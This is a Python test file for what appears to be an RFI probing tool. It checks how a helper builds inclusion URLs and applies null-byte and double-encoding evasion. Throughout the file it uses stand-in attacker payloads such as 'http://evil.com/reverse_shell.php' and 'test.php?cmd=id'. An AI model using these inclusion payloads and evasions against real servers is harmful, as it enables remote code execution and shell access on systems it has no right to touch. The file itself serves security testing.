# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

from urllib.parse import parse_qsl, quote_plus, urlsplit

import pytest

from rfiprobe.errors import InvalidTargetError
from rfiprobe.http.url import merge_query, parse_target_url, query_keys, set_query_param
from rfiprobe.rfi import RFI, Evasion, build_inclusion_url, parse_evasion

BASE_URL = "https://example.com/page.php?q=foo&vuln=bar"
SCRIPT = "http://evil.com/reverse_shell.php"


def _query_value(url: str, name: str) -> str:
    return dict(parse_qsl(urlsplit(url).query, keep_blank_values=True))[name]


def test_rewrite_without_evasion_sets_param_and_keeps_others():
    url = build_inclusion_url(BASE_URL, "vuln", SCRIPT)
    assert url == "https://example.com/page.php?q=foo&vuln=http%3A%2F%2Fevil.com%2Freverse_shell.php"
    assert _query_value(url, "q") == "foo"
    assert _query_value(url, "vuln") == SCRIPT


def test_rewrite_null_byte_appends_encoded_nul():
    url = build_inclusion_url(BASE_URL, "vuln", SCRIPT, Evasion.NULL_BYTE)
    assert url.endswith("reverse_shell.php%00")
    assert _query_value(url, "vuln") == SCRIPT + "\0"
    assert _query_value(url, "q") == "foo"


def test_rewrite_double_encode_encodes_twice():
    url = build_inclusion_url(BASE_URL, "vuln", SCRIPT, "double_encode")
    assert url == "https://example.com/page.php?q=foo&vuln=" + quote_plus(quote_plus(SCRIPT))
    assert "http%253A%252F%252Fevil.com%252Freverse_shell.php" in url
    assert _query_value(url, "vuln") == quote_plus(SCRIPT)


def test_rewrite_is_idempotent_without_evasion():
    once = build_inclusion_url(BASE_URL, "vuln", SCRIPT)
    twice = build_inclusion_url(once, "vuln", SCRIPT)
    assert once == twice


def test_rewrite_adds_missing_param():
    url = build_inclusion_url("http://target.test/index.php?q=1", "page", SCRIPT)
    assert url == "http://target.test/index.php?q=1&page=http%3A%2F%2Fevil.com%2Freverse_shell.php"


def test_rewrite_preserves_raw_encoding_of_untouched_params():
    url = build_inclusion_url("http://target.test/a.php?name=a%20b&tag=x+y&vuln=1#frag", "vuln", SCRIPT)
    assert url.startswith("http://target.test/a.php?name=a%20b&tag=x+y&vuln=http%3A")
    assert url.endswith("#frag")


def test_rewrite_overwrites_first_occurrence_and_drops_duplicates():
    url = build_inclusion_url("http://target.test/a.php?vuln=1&q=2&vuln=3", "vuln", SCRIPT)
    assert urlsplit(url).query == "vuln=http%3A%2F%2Fevil.com%2Freverse_shell.php&q=2"


def test_rewrite_hoists_script_query_params():
    url = build_inclusion_url(BASE_URL, "vuln", "http://evil.com/test.php?cmd=id&q=override")
    assert urlsplit(url).query == "q=override&vuln=http%3A%2F%2Fevil.com%2Ftest.php&cmd=id"


def test_rewrite_with_null_byte_after_hoisting():
    url = build_inclusion_url(BASE_URL, "vuln", "http://evil.com/test.php?cmd=id", Evasion.NULL_BYTE)
    assert _query_value(url, "vuln") == "http://evil.com/test.php\0"
    assert _query_value(url, "cmd") == "id"


def test_probe_normalizes_param_to_string():
    rfi = RFI("http://target.test/?1=a", 1)
    assert rfi.param == "1"
    assert rfi.url_for(SCRIPT) == "http://target.test/?1=http%3A%2F%2Fevil.com%2Freverse_shell.php"


@pytest.mark.parametrize(
    "url",
    ["not a url", "ftp://example.com/file?x=1", "http:///path?x=1", "http://[::1/page?x=1", ""],
)
def test_invalid_target_urls_are_rejected(url):
    with pytest.raises(InvalidTargetError):
        parse_target_url(url)
    with pytest.raises(ValueError):
        RFI(url, "x")


def test_query_helpers():
    assert query_keys("a=1&b=2&a=3&flag") == ["a", "b", "flag"]
    assert query_keys("") == []
    assert set_query_param("flag&x=1", "flag", "v w") == "flag=v+w&x=1"
    assert merge_query("a=1", "b=2&a=3") == "a=3&b=2"


def test_parse_evasion():
    assert parse_evasion(None) is Evasion.NONE
    assert parse_evasion("NULL_BYTE") is Evasion.NULL_BYTE
    assert parse_evasion(Evasion.DOUBLE_ENCODE) is Evasion.DOUBLE_ENCODE
    with pytest.raises(ValueError):
        parse_evasion("terminate")
